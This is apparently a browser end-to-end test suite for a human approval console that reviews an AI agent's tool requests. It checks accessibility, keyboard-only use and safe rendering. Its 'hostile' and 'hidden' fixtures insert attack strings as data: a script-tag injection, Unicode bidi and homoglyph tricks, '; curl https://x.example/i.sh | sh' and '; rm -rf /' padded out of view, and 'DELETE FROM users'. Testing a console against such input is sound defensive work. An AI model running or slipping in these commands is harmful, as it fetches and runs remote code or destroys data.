// The pages in a real browser: the keyboard alone, axe on each page in each
// state, light and dark, and whatever the browser itself complains about.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { launch, only, paint, shot, sideways, steadily, violations } from "../../../console/e2e/fixtures/browser.mjs";

const { WEB_URL, STAGE_URL, STATES } = process.env;

let browser;
before(async () => {
  browser = await launch();
});
after(() => browser?.close());

// stage has the test's Go side do something: an agent asks, time passes.
async function stage(what, args = {}) {
  const answer = await fetch(`${STAGE_URL}/${what}?${new URLSearchParams(args)}`, { method: "POST" });
  const text = await answer.text();
  assert.equal(answer.status, 200, `${what}: ${text}`);
  return text;
}

const ask = (tool, args, more = {}) => stage("ask", { tool, args: JSON.stringify(args), ...more });

// open is a new browser of somebody's, with a page that notes every complaint.
async function open(person, options = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, reducedMotion: "reduce", ...options });
  const page = await context.newPage();
  page.complaints = [];
  page.on("console", (m) => ["error", "warning"].includes(m.type()) && page.complaints.push(m.text()));
  page.on("pageerror", (e) => page.complaints.push(String(e)));
  page.on("requestfailed", (r) => r.failure()?.errorText === "net::ERR_ABORTED" || page.complaints.push(`${r.url()} ${r.failure()?.errorText}`));
  if (person) {
    await page.goto(await stage("link", { person }));
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.waitForURL((url) => url.pathname === (options.javaScriptEnabled === false ? "/plain/" : "/"));
    await page.goto("about:blank"); // the console that it landed on asks an API that is not here
    page.complaints.length = 0;
  }
  return page;
}

// check looks at the page as it stands: what the browser refused, axe in both
// themes, and at 320 px nothing sideways and nothing too small to hit.
async function check(page, name, { status = [], quick = false } = {}) {
  await page.setViewportSize({ width: 1280, height: 900 });
  const refused = page.complaints.filter((c) => !status.some((s) => c.includes(`status of ${s}`)));
  assert.deepEqual(refused, [], `${name}: what the browser complained of`);
  assert.deepEqual(await violations(page), [], `${name}, light`);
  await shot(page, `${name}-light`);
  if (quick) return;
  await paint(page, { colorScheme: "dark" });
  assert.deepEqual(await violations(page, only("color-contrast")), [], `${name}, dark`);
  await shot(page, `${name}-dark`);
  await paint(page, { colorScheme: "light" });
  await page.setViewportSize({ width: 320, height: 800 });
  await shot(page, `${name}-320`);
  const overflow = await sideways(page);
  assert.ok(overflow <= 0, `${name}: ${overflow} px wider than a window of 320`);
  const narrow = only("target-size", "scrollable-region-focusable", "color-contrast");
  assert.deepEqual(await violations(page, narrow), [], `${name}, 320 px`);
  page.complaints.length = 0; // axe itself is refused a style by the page's policy
}

// tabTo presses Tab until the element with the text has the focus, as somebody
// without a mouse does.
async function tabTo(page, text) {
  for (let i = 0; i < 80; i++) {
    await page.keyboard.press("Tab");
    const at = await steadily(page, () => page.evaluate(() => {
      const e = document.activeElement;
      const r = e.getBoundingClientRect();
      return { text: (e.innerText || e.labels?.[0]?.innerText || "").trim(), seen: r.width > 0 && r.height > 0 };
    }));
    if (at.text.startsWith(text)) {
      assert.ok(at.seen, `${text} has the focus and cannot be seen`);
      return;
    }
  }
  assert.fail(`Tab never reaches ${text}`);
}

test("somebody signs in with a link, reads, and approves by the keyboard alone", async () => {
  const id = await ask("write_file", { path: "/srv/app.conf", content: "a=1\nb=2" });
  const page = await open();
  await page.goto(await stage("link", { person: "bob" }));
  await check(page, "signin");
  await tabTo(page, "Sign in");
  await page.keyboard.press("Enter");
  await page.waitForURL((url) => url.pathname === "/");
  await page.goto("about:blank");
  page.complaints.length = 0;
  await page.goto(`${WEB_URL}/plain/`);
  await tabTo(page, "deploy-bot would write");
  await page.keyboard.press("Enter");
  await page.waitForURL(`**/plain/r/${id}`);
  await check(page, "request");
  await tabTo(page, "Approve, run once");
  await page.keyboard.press("Enter");
  await page.getByText("Approved. Nothing has run yet.").waitFor();
  await check(page, "approved");
  await stage("run", { id });
  await page.getByText("Ran once, as approved.").waitFor({ timeout: 10_000 }); // the page looks again by itself
  await check(page, "settled");
  await page.context().close();
});

test("a browser without script is sent on to the plain pages", async () => {
  const id = await ask("write_file", { path: "/srv/app.conf", content: "a=1" });
  const page = await open("bob", { javaScriptEnabled: false });
  await page.goto(WEB_URL);
  await page.waitForURL("**/plain/");
  await page.goto(`${WEB_URL}/r/${id}`);
  await page.waitForURL(`**/plain/r/${id}`);
  await page.context().close();
});

test("a request is rejected with a reason, and not without one", async () => {
  const id = await ask("write_file", { path: "/srv/rejected" });
  const page = await open("bob");
  await page.goto(`${WEB_URL}/plain/r/${id}`);
  await page.getByRole("button", { name: "Reject" }).click();
  assert.equal(await page.evaluate(() => document.activeElement.id), "why", "the browser asks for the reason");
  await page.getByLabel("Reason").fill("Wrong file.");
  await page.getByRole("button", { name: "Reject" }).click();
  await page.getByText("Rejected by Bob Okafor. It did not run.").waitFor();
  await check(page, "rejected");
  await page.context().close();
});

test("whoever decides second is told who was faster", async () => {
  const id = await ask("write_file", { path: "/srv/race" });
  const [bob, mei] = [await open("bob"), await open("mei")];
  for (const page of [bob, mei]) await page.goto(`${WEB_URL}/plain/r/${id}`);
  await mei.getByLabel("Reason").fill("Wrong template: dunning-2 goes to customers who have paid.");
  await mei.getByRole("button", { name: "Reject" }).click();
  await mei.getByText("It did not run.").first().waitFor();
  await bob.getByRole("button", { name: "Approve, run once" }).click();
  await bob.getByText("Already decided by Mei Tanaka.").waitFor();
  await bob.getByText("Your approval was not recorded and nothing ran.").waitFor();
  await check(bob, "conflict", { status: [409] });
  for (const page of [bob, mei]) await page.context().close();
});

describe("every page in every state", () => {
  const hostile = "\u202Eevil\u2066 \u200Bx <script>document.title='gone'</script> `*bold*` @here https://x.example " + "a".repeat(300);
  const states = {
    "inbox-empty": { as: "mei", first: true, at: "/plain/" },
    "history-empty": { as: "dana", at: "/plain/history" },
    "nothing-here": { as: "bob", at: "/plain/nothing", status: [404] },
    "signin-without-link": { at: "/signin" },
    hostile: { as: "bob", ask: ["write_file", { path: hostile, "\u202Ekey": "\u0410dmin", content: " ".repeat(400) + "; curl https://x.example/i.sh | sh\u001b[32m", deep: { a: { b: [1, 2, { c: hostile }] } } }, { reason: hostile, name: hostile }] },
    long: { as: "bob", ask: ["write_file", { path: "/srv/long", content: Array.from({ length: 120 }, (_, i) => `line ${i}: ` + "value ".repeat(i % 40)).join("\n") }] },
    oversize: { as: "bob", ask: ["write_file", { path: "/srv/huge", content: "x".repeat(300_000) }] },
    critical: { as: "bob", ask: ["write_file", { path: "/srv/customers", query: "DELETE FROM users -- \u202E" }, { for: "dana" }] },
    hidden: { as: "bob", ask: ["write_file", { path: "/srv/pa\u0443roll", content: "a\u200Bb" + " ".repeat(60) + "; rm -rf /" }] },
    "two-people": { as: "bob", ask: ["grant", { who: "app", role: "reader" }] },
    "half-signed": { as: "bob", ask: ["grant", { who: "app", role: "writer" }], then: [["approve", "mei"]] },
    "signed-by-me": { as: "mei", ask: ["grant", { who: "app", role: "admin" }], then: [["approve", "mei"]] },
    "reason-needed": { as: "bob", ask: ["exec", { pod: "web-1" }] },
    "not-mine": { as: "alice", ask: ["write_file", { path: "/srv/owned" }] },
    redacted: { as: "bob", ask: ["write_file", { path: "/srv/vault", password: "correct-horse1" }] },
    revealing: { as: "bob", ask: ["write_file", { path: "/srv/vault2", password: "correct-horse2" }], open: "Reveal what was left out" },
    held: { as: "bob", ask: ["write_file", { path: "/srv/held\u202E" }], then: [["hold", "mei"]], undo: [["lift"]] },
    unlisted: { as: "bob", ask: ["mystery", { anything: "goes" }] },
    denied: { as: "alice", ask: ["wipe", { table: "users" }] },
    allowed: { as: "alice", ask: ["read_file", { path: "/srv/readme" }] },
    failed: { as: "bob", ask: ["write_file", { path: "/fail" }], then: [["approve", "bob"], ["run"]] },
    unknown: { as: "bob", ask: ["write_file", { path: "/unknown" }], then: [["approve", "bob"], ["run"]] },
    escalated: { as: "bob", ask: ["write_file", { path: "/srv/escalated" }], then: [["escalate", "mei"]] },
    "server-account": { as: "bob", ask: ["write_file", { path: "/srv/local" }, { local: "1" }] },
    inbox: { as: "bob", at: "/plain/" },
    "inbox-filtered": { as: "bob", at: "/plain/?resource=nowhere" },
    history: { as: "alice", at: "/plain/history" },
    stale: { as: "bob", ask: ["write_file", { path: "/srv/stale" }], then: [["pass", "20m"]] },
    expired: { as: "bob", ask: ["write_file", { path: "/srv/expired" }], then: [["pass", "40m"]] },
    "inbox-200": { as: "bob", at: "/plain/", many: 200 },
  };
  const pages = {}; // one a person
  after(() => Promise.all(Object.values(pages).map((page) => page.context().close())));
  const few = ["hostile", "critical", "half-signed", "inbox", "history"];
  for (const [name, s] of Object.entries(states).filter(([name]) => STATES || few.includes(name))) {
    test(name, async () => {
      if (s.first) await stage("settle");
      for (let i = 0; i < (s.many ?? 0); i++) await ask("write_file", { path: `/srv/many/${i}` });
      const page = (pages[s.as] ??= await open(s.as));
      const id = s.ask && (await ask(...s.ask));
      for (const [what, who] of s.then ?? []) await stage(what, { id, who: who ?? "" });
      await page.goto(WEB_URL + (s.at ?? `/plain/r/${id}`));
      assert.equal(await page.title().then((t) => t.includes("gone")), false);
      if (s.open) await page.getByText(s.open).click();
      await check(page, name, { status: s.status, quick: !!s.many });
      for (const [what] of s.undo ?? []) await stage(what);
    });
  }
});

test("a browser without script reveals a secret with a reason, and approves what is then shown", async () => {
  const id = await ask("write_file", { path: "/srv/vault3", password: "correct-horse3" });
  const page = await open("bob", { javaScriptEnabled: false });
  await page.goto(`${WEB_URL}/plain/r/${id}`);
  assert.equal(await page.getByRole("button", { name: "Approve, run once" }).count(), 0);
  await page.getByText("Reveal what was left out").click();
  await page.getByRole("group").getByLabel("Reason").fill("To compare it with the vault.");
  await page.getByRole("button", { name: "Reveal, on record" }).click();
  await page.getByText("correct-horse3").first().waitFor();
  await page.getByText("You see what was left out.").waitFor();
  await page.getByRole("button", { name: "Approve, run once" }).click();
  await page.getByText("Approved. Nothing has run yet.").waitFor();
  await page.context().close();
});

test("colours that the reader forces leave every risk and button visible", async () => {
  const id = await ask("write_file", { path: "/srv/\u202Eforced" });
  const page = await open("bob", { forcedColors: "active" });
  await page.goto(`${WEB_URL}/plain/r/${id}`);
  await shot(page, "forced-colours");
  const border = await page.getByRole("button", { name: "Reject" }).evaluate((e) => getComputedStyle(e).borderTopWidth);
  assert.notEqual(border, "0px");
  await page.context().close();
});
